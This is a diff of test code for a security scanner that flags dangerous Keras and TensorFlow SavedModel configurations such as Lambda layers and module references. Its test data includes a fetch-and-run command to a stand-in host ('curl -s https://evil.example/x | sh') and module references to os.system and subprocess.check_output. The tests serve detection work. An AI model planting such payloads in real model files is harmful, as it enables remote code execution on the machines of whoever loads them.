@@ -3,9 +3,21 @@ import { describe, expect, it } from 'vitest';
 import { bufferSource } from '../../../src/core/byte-source.js';
 import { DEFAULT_LIMITS } from '../../../src/core/limits.js';
 import detector from '../../../src/detectors/model/keras-config.js';
-import { readKerasArchive, readKerasH5, type KerasModel } from '../../../src/readers/keras/index.js';
+import { readKerasArchive, readKerasH5, readKerasSavedMetadata, type KerasModel } from '../../../src/readers/keras/index.js';
+import { readKerasMetadata, readTensorflowGraph } from '../../../src/readers/protobuf/index.js';
 import { openEntry, readZip } from '../../../src/readers/zip/index.js';
-import { buildKerasH5, buildKerasZip, denseLayer, layer, MARSHAL_LAMBDA, sequentialConfig } from '../../builders/keras.js';
+import {
+  buildKerasH5,
+  buildKerasZip,
+  denseLayer,
+  layer,
+  MARSHAL_LAMBDA,
+  sequentialConfig,
+  tfKerasLambdaConfig,
+  tfKerasLayerMetadata,
+  tfKerasModelMetadata,
+} from '../../builders/keras.js';
+import { buildKerasMetadata, buildSavedModel, type KerasMetadataNodeSpec } from '../../builders/protobuf.js';
 import { brief, runDetector } from '../detector-tester.js';
 
 const FIXTURES = new URL('../../fixtures/keras/', import.meta.url);
@@ -148,5 +160,53 @@ describe('model/keras-config: legacy .h5 models', () => {
   it('training_config is checked as well', () => {
     const training = JSON.stringify({ loss: { class_name: 'function', module: 'subprocess', config: 'check_output' } });
     expect(brief(runH5(buildKerasH5({ attributes: [{ name: 'model_config', value: '{"class_name":"Sequential","config":{}}' }, { name: 'training_config', value: training }] })))).toEqual(['moduleReference:critical']);
+  });
+});
+
+describe('model/keras-config: Keras metadata inside a TensorFlow SavedModel (keras_metadata.pb)', () => {
+  const fromMetadata = (nodes: KerasMetadataNodeSpec[]) => {
+    const read = readKerasMetadata(bufferSource(buildKerasMetadata(nodes)));
+    if (!read.ok) throw new Error(read.error.message);
+    return findings(readKerasSavedMetadata(read.value.nodes, [], DEFAULT_LIMITS));
+  };
+  const dense = { class_name: 'Dense', config: { name: 'dense', units: 1, activation: 'relu' } };
+  const lambdaNode = (code: string): KerasMetadataNodeSpec => ({ nodePath: 'root.layer-1', metadata: tfKerasLayerMetadata('Lambda', tfKerasLambdaConfig(code)) });
+
+  it('a benign tf.keras model (model node, Dense layer) stays quiet', () => {
+    const nodes: KerasMetadataNodeSpec[] = [
+      { nodePath: 'root', identifier: '_tf_keras_sequential', metadata: tfKerasModelMetadata([dense]) },
+      { nodePath: 'root.layer_with_weights-0', metadata: tfKerasLayerMetadata('Dense', dense.config) },
+    ];
+    expect(brief(fromMetadata(nodes))).toEqual([]);
+  });
+  it('the marshalled lambda that is critical in a .keras or .h5 file is critical here, named by node path', () => {
+    const result = fromMetadata([lambdaNode(MARSHAL_LAMBDA.malicious)]);
+    expect(brief(result)).toEqual(['lambdaLayer:critical']);
+    expect(result[0]?.location.jsonPath).toBe('root.layer-1:$.config.function');
+    expect(result[0]?.evidence.excerpt).toContain('curl -s https://evil.example/x | sh');
+  });
+  it('the lambda is reported wherever Keras could revive it from: its own node and the model architecture', () => {
+    const model = tfKerasModelMetadata([{ class_name: 'Lambda', config: tfKerasLambdaConfig(MARSHAL_LAMBDA.benign) }]);
+    const result = fromMetadata([{ nodePath: 'root', identifier: '_tf_keras_sequential', metadata: model }, lambdaNode(MARSHAL_LAMBDA.benign)]);
+    expect(result.map((f) => `${f.messageId}:${f.severity}:${f.location.jsonPath}`)).toEqual([
+      'lambdaLayer:high:root:$.config.layers[1].config.function',
+      'lambdaLayer:high:root:$.model_config.config.layers[1].config.function',
+      'lambdaLayer:high:root.layer-1:$.config.function',
+    ]);
+  });
+  it('CVE-2025-1550: a module reference to os.system is critical', () => {
+    const layerNode = tfKerasLayerMetadata('Dense', { name: 'd', units: 1, activation: { module: 'os', class_name: 'function', config: 'system', registered_name: null } });
+    expect(brief(fromMetadata([{ nodePath: 'root.layer_with_weights-0', metadata: layerNode }]))).toEqual(['moduleReference:critical']);
+  });
+  it('metadata that is not JSON is unreadable, never clean', () => {
+    expect(brief(fromMetadata([{ nodePath: 'root.layer-1', metadata: '{"class_name": "Lambda", "config": ' }]))).toEqual(['unreadableConfig:medium']);
+  });
+  it('the same JSON in the object graph of an older saved_model.pb is judged the same way', () => {
+    const bytes = buildSavedModel({ metaGraphs: [{ nodes: [], objects: [{ identifier: '_tf_keras_layer', metadata: tfKerasLayerMetadata('Lambda', tfKerasLambdaConfig(MARSHAL_LAMBDA.malicious)) }] }] });
+    const graph = readTensorflowGraph(bufferSource(bytes), 'saved-model');
+    if (!graph.ok) throw new Error(graph.error.message);
+    const result = findings(readKerasSavedMetadata(graph.value.kerasMetadata, [], DEFAULT_LIMITS));
+    expect(brief(result)).toEqual(['lambdaLayer:critical']);
+    expect(result[0]?.location.jsonPath).toBe('object_graph_def.nodes[0]:$.config.function');
   });
 });
